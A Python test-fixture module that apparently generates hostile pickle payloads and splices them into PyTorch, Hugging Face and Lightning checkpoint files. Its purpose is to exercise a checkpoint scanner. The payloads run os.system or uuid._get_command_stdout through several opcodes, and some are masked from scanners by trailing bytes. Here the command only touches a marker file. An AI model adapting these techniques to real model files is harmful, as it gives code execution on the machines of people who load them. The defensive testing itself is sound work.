"""Hostile pickles: payloads that run code when unpickled, in every place a checkpoint has one.

Each payload of :data:`PAYLOADS` (a call of ``os.system`` by REDUCE, INST, OBJ and
STACK_GLOBAL; ``os.system`` reached as an attribute of ``torch``; a standard-library
function that runs a command, ``uuid._get_command_stdout``; calls masked by the bytes
after them: an opcode that does not exist, a BUILD into a list, a BUILD into an
OrderedDict) is spliced in front of the pickle of each placement of :data:`PLACEMENTS`
(HF ``optimizer.pt``, ``training_args.bin`` and ``rng_state.pth``, a Lightning
``.ckpt``, a legacy torch file, a raw ``.pkl``). Each payload would create a marker file;
``--prove`` also runs ``torch.load(weights_only=False)`` on each case in a child process to
show that it does (the campaign's own check that its payloads are live).
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "sample_runs"


def _text(value: bytes) -> bytes:
    return b"X" + len(value).to_bytes(4, "little") + value  # BINUNICODE


def _call(module: str, name: str, args: list[bytes], opcode: str) -> bytes:
    """Opcodes that call ``module.name(*args)`` (the result left on the stack)."""
    pushed = b"".join(_text(a) for a in args)
    tup = {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(args)]
    glob = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    if opcode == "reduce":
        return glob + pushed + tup + b"R"
    if opcode == "inst":
        return b"(" + pushed + b"i" + module.encode() + b"\n" + name.encode() + b"\n"
    if opcode == "obj":
        return b"(" + glob + pushed + b"o"
    return _text(module.encode()) + _text(name.encode()) + b"\x93" + pushed + tup + b"R"


def payload(kind: str, marker: Path) -> tuple[bytes, bool]:
    """The payload's bytes (run before the file's own object) and whether it needs protocol 4
    (a dotted name is resolved from protocol 4 on)."""
    touch = f"touch {marker}".encode()
    system = ("posix", "system")
    if kind in ("reduce", "inst", "obj", "stack_global"):
        return _call(*system, [touch], kind) + b"0", False
    if kind == "attribute_path":
        return _call("torch", "os.system", [touch], "stack_global") + b"0", True
    if kind == "stdlib_command":
        return _call("uuid", "_get_command_stdout", [b"touch", str(marker).encode()],
                     "reduce") + b"0", False
    call = _call(*system, [touch], "reduce")
    if kind == "masked_bad_opcode":
        return call + b"\xff", False
    if kind == "masked_build_list":
        return b"]" + call + b"b", False
    if kind == "masked_ordered_dict":
        return b"ccollections\nOrderedDict\n)R" + call + b"b", False
    raise ValueError(kind)


PAYLOADS = ("reduce", "inst", "obj", "stack_global", "attribute_path", "stdlib_command",
            "masked_bad_opcode", "masked_build_list", "masked_ordered_dict")


def splice(data: bytes, kind: str, marker: Path) -> bytes:
    body, proto4 = payload(kind, marker)
    head = b""
    if data[:1] == b"\x80":
        head, data = data[:2], data[2:]
    if proto4:
        head = b"\x80\x04"
    return head + body + data


def splice_file(path: Path, kind: str, marker: Path) -> None:
    """Splice the payload into ``path``: its ``data.pkl`` for a torch zip, else its start."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as zin:
            members = [(i, zin.read(i)) for i in zin.infolist()]
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zout:
            for info, data in members:
                if info.filename.endswith("data.pkl"):
                    data = splice(data, kind, marker)
                zout.writestr(info.filename, data)
        path.write_bytes(buf.getvalue())
    else:
        path.write_bytes(splice(path.read_bytes(), kind, marker))


def _legacy_file(folder: Path) -> Path:
    import torch

    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "model.pt"
    torch.save({"model": {"w": torch.ones(3)}, "step": 2}, path,
               _use_new_zipfile_serialization=False)
    return path


def _raw_pickle(folder: Path) -> Path:
    import pickle

    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "state.pkl"
    path.write_bytes(pickle.dumps({"model": {"w": [1.0, 2.0]}, "step": 5}, protocol=4))
    return path


#: (name, how to make the checkpoint folder, the file that takes the payload)
PLACEMENTS = ("hf_optimizer", "hf_training_args", "hf_rng_state", "lightning_ckpt",
              "legacy_torch", "raw_pickle")


def place(name: str, dest: Path) -> tuple[Path, Path]:
    """A fresh checkpoint at ``dest``; returns (what autopsy ckpt is given, the file to
    splice)."""
    if name.startswith("hf_"):
        shutil.copytree(SAMPLES / "ckpt_hf_good" / "checkpoint-8", dest)
        file = {"hf_optimizer": "optimizer.pt", "hf_training_args": "training_args.bin",
                "hf_rng_state": "rng_state.pth"}[name]
        return dest, dest / file
    if name == "lightning_ckpt":
        src = next((SAMPLES / "ckpt_lightning_good").rglob("*.ckpt"))
        dest.mkdir(parents=True)
        shutil.copy(src, dest / src.name)
        return dest / src.name, dest / src.name
    if name == "legacy_torch":
        path = _legacy_file(dest)
        return path, path
    path = _raw_pickle(dest)
    return path, path
